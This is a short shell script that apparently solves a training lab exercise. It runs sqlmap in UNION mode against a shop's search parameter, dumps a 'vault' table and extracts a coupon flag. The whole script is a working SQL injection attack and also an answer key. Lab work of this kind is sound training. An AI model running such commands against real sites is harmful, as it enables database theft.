#!/bin/sh
# Exercise 1, docs/lab/shop.md: read the coupon in the vault. Argument: the shop's address and port.
set -eu
lab --proof
lab sqlmap -u "http://$1/search?q=tea" -p q --technique U -T vault --dump --flush-session | tee /tmp/lab-shop
grep --only-matching --max-count=1 'BRAMBLE-[A-Z]*' /tmp/lab-shop
